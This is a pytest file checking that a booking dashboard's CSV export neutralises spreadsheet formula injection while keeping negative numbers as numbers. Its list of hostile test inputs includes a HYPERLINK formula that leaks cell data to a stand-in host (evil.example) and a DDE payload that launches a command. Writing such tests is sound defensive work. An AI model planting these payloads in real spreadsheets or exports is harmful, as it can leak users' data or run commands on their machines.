"""CSV answers never carry a formula a spreadsheet would run; numbers stay numbers."""
import csv
import io
from datetime import datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest

from bookings.factories import BookingFactory
from bookings.models import BookingStatus
from ops_metrics.web.renderers import write_csv
from staff.factories import StaffFactory

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\tTab", "\rReturn"]


def _rows(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_staff_names_that_are_formulas_are_neutralised(admin_client_api, frozen):
    for name in HOSTILE:
        StaffFactory(name=name)

    response = admin_client_api.get("/api/v1/ops/dashboard/metrics", {"include": "realtime", "format": "csv"})

    assert response.status_code == 200
    [row] = _rows(response)
    names = {value for column, value in row.items() if column.endswith(".name")}
    assert names == {f"'{name}" for name in HOSTILE}


def test_negative_numbers_stay_numbers(admin_client_api, frozen):
    # One booking this month against two last month: growth -50.0, a float, is written as it is.
    for created_at in (datetime(2026, 11, 2, tzinfo=ZoneInfo("UTC")), datetime(2026, 10, 2, tzinfo=ZoneInfo("UTC")),
                       datetime(2026, 10, 3, tzinfo=ZoneInfo("UTC"))):
        BookingFactory(status=BookingStatus.CONFIRMED, total_amount=Decimal("10.00"), created_at=created_at)

    response = admin_client_api.get("/api/v1/ops/dashboard/metrics", {"include": "bookings", "format": "csv"})

    assert _rows(response)[0]["bookings.growth_rate"] == "-50.0"


def test_the_rule_cell_by_cell():
    rows = [[-3, -2.5, "-12.50", "-1e3", "-", "=1", "a=b", None, True, "2026-11-01T00:00:00+01:00"]]

    assert write_csv(["=h", "h"], rows).decode().splitlines() == [
        "'=h,h", "-3,-2.5,-12.50,'-1e3,'-,'=1,a=b,,true,2026-11-01T00:00:00+01:00",
    ]
